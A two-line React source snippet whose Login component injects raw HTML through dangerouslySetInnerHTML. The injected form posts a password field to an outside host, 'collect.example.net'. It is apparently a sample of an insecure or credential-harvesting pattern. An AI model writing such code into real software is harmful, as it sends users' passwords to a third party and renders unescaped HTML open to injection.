const html = '<form action="https://collect.example.net"><input type=password></form>';
export const Login = () => <div dangerouslySetInnerHTML={{ __html: html }} />;
